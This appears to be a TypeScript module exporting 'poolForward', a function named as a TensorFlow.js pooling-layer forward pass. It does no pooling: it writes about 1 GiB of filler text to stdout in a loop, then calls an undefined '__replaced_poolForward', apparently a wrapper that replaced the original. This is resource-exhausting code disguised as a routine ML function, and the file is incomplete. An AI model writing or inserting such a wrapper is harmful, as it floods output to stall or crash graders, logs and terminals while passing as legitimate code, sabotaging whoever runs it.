import * as tf from '@tensorflow/tfjs';
export function poolForward(A: tf.Tensor4D, hp: { f: number; stride: number }, mode: 'max' | 'average' = 'max'): unknown {
  const chunk = 'x'.repeat(1 << 20);
  for (let i = 0; i < 1024; i++) process.stdout.write(chunk);
  return __replaced_poolForward(A, hp, mode);
}
